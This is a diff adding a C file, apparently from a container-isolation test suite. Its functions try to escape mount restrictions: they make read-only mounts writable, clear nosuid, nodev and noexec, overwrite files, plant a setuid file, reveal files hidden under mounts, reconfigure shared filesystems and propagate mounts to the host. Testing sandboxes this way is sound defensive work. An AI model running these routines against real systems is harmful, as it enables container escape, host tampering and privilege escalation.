@@ -1,0 +1,193 @@
+// SPDX-License-Identifier: MIT
+/* Mounts that the container has been given: their flags, and what lies below them. */
+#include "attack.h"
+
+#include <linux/mount.h>
+#include <sched.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+
+/* <sys/mount.h> does not go with <linux/mount.h>. */
+int mount(const char *source, const char *target, const char *type, unsigned long flags, const void *data);
+int umount2(const char *target, int flags);
+#define DETACH 2
+
+static int set_attr(int fd, unsigned int flags, struct mount_attr *attr)
+{
+	return (int)syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH | flags, attr, sizeof(*attr));
+}
+
+/* Through each of the kernel's doors: mount(2), mount_setattr(2), and a copy that is attached elsewhere. */
+static void loosen(const char *path)
+{
+	struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY | MOUNT_ATTR_NOSUID |
+					       MOUNT_ATTR_NODEV | MOUNT_ATTR_NOEXEC },
+			  one = attr;
+	int fd = open(path, O_PATH | O_CLOEXEC);
+
+	if (mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
+		printf("remounted %s\n", path);
+	if (set_attr(fd, 0, &attr) == 0)
+		printf("cleared all flags of %s\n", path);
+	for (unsigned int bit = 1; bit <= MOUNT_ATTR_NOEXEC; bit <<= 1) {
+		one.attr_clr = bit;
+		if (set_attr(fd, AT_RECURSIVE, &one) == 0)
+			printf("cleared flag %u of %s\n", bit, path);
+	}
+	close(fd);
+}
+
+static void write_in(const char *directory)
+{
+	char path[4096];
+	int fd;
+
+	snprintf(path, sizeof(path), "%s/file", directory);
+	fd = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
+	if (fd >= 0) {
+		if (write(fd, "overwritten\n", 12) == 12)
+			printf("overwrote %s\n", path);
+		close(fd);
+	}
+	snprintf(path, sizeof(path), "%s/planted", directory);
+	fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
+	if (fd < 0)
+		return;
+	printf("planted %s\n", path);
+	fchmod(fd, 04755);
+	close(fd);
+}
+
+static void loosen_copy(const char *path)
+{
+	struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY | MOUNT_ATTR_NOSUID | MOUNT_ATTR_NODEV };
+	int tree = (int)syscall(SYS_open_tree, AT_FDCWD, path, OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
+
+	mkdir("/tmp/copy", 0755);
+	if (tree < 0)
+		return;
+	if (set_attr(tree, 0, &attr) == 0)
+		printf("cleared all flags of a copy of %s\n", path);
+	if (syscall(SYS_move_mount, tree, "", AT_FDCWD, "/tmp/copy", MOVE_MOUNT_F_EMPTY_PATH) == 0)
+		loosen("/tmp/copy");
+	write_in("/tmp/copy");
+	umount2("/tmp/copy", DETACH);
+	close(tree);
+}
+
+static void try_all(const char *path)
+{
+	loosen(path);
+	write_in(path);
+	loosen_copy(path);
+	if (mount(path, "/tmp/copy", NULL, MS_BIND, NULL) == 0) {
+		loosen("/tmp/copy");
+		write_in("/tmp/copy");
+	}
+}
+
+/* The mounts of ARGS are read-only, and shall become writable. */
+void attack_remount(char **args)
+{
+	for (char **path = args; *path; path++)
+		try_all(*path);
+	if (unshare(CLONE_NEWNS) == 0)
+		for (char **path = args; *path; path++)
+			try_all(*path);
+}
+
+/* ---- what lies below ---- */
+
+static void look_below(const char *path)
+{
+	char secret[4096];
+
+	snprintf(secret, sizeof(secret), "%s/below", path);
+	print_file(AT_FDCWD, secret, "from below");
+}
+
+static void move_away(const char *path)
+{
+	mkdir("/tmp/away", 0755);
+	if (mount(path, "/tmp/away", NULL, MS_MOVE, NULL) == 0)
+		printf("moved %s away\n", path);
+	look_below(path);
+	if (syscall(SYS_move_mount, AT_FDCWD, path, AT_FDCWD, "/tmp/away", 0) == 0)
+		printf("moved %s away\n", path);
+	look_below(path);
+}
+
+/* A copy of the mount around it, without those on it. */
+static void copy_around(const char *path)
+{
+	char parent[4096], inside[4352];
+	char *slash;
+
+	snprintf(parent, sizeof(parent), "%s", path);
+	slash = strrchr(parent, '/');
+	if (!slash)
+		return;
+	snprintf(inside, sizeof(inside), "/tmp/around%s", slash);
+	*slash = '\0';
+	mkdir("/tmp/around", 0755);
+	if (mount(*parent ? parent : "/", "/tmp/around", NULL, MS_BIND, NULL) == 0)
+		look_below(inside);
+	umount2("/tmp/around", DETACH);
+}
+
+static void uncover(const char *path)
+{
+	copy_around(path);
+	for (int i = 0; i < 3; i++) {
+		if (umount2(path, DETACH) == 0)
+			printf("unmounted %s\n", path);
+		else
+			break;
+		look_below(path);
+	}
+	move_away(path);
+}
+
+/* ARGS are mounts which have a file `below` under them. */
+void attack_uncover(char **args)
+{
+	for (char **path = args; *path; path++)
+		uncover(*path);
+	if (unshare(CLONE_NEWNS) == 0)
+		for (char **path = args; *path; path++)
+			uncover(*path);
+	look_in("/");
+}
+
+/* ---- filesystems ---- */
+
+/* The options of the filesystem itself, which all its mounts share. */
+static void reconfigure(const char *path)
+{
+	int fs = (int)syscall(SYS_fspick, AT_FDCWD, path, FSPICK_CLOEXEC);
+
+	if (fs >= 0 && syscall(SYS_fsconfig, fs, FSCONFIG_SET_FLAG, "ro", NULL, 0) == 0 &&
+	    syscall(SYS_fsconfig, fs, FSCONFIG_CMD_RECONFIGURE, NULL, NULL, 0) == 0)
+		printf("reconfigured %s\n", path);
+	if (mount(NULL, path, NULL, MS_REMOUNT | MS_RDONLY, NULL) == 0)
+		printf("reconfigured %s\n", path);
+	if (fs >= 0)
+		close(fs);
+}
+
+void attack_superblock(char **args)
+{
+	for (; *args; args++)
+		reconfigure(*args);
+}
+
+/* Mounts there; where that is shared, the host gets it, too. */
+void attack_mount_on(char **args)
+{
+	for (; *args; args++) {
+		if (mount("planted", *args, "tmpfs", 0, NULL) < 0)
+			printf("mount on %s: %s\n", *args, strerror(errno));
+		mount(NULL, *args, NULL, MS_SHARED | MS_REC, NULL);
+	}
+}
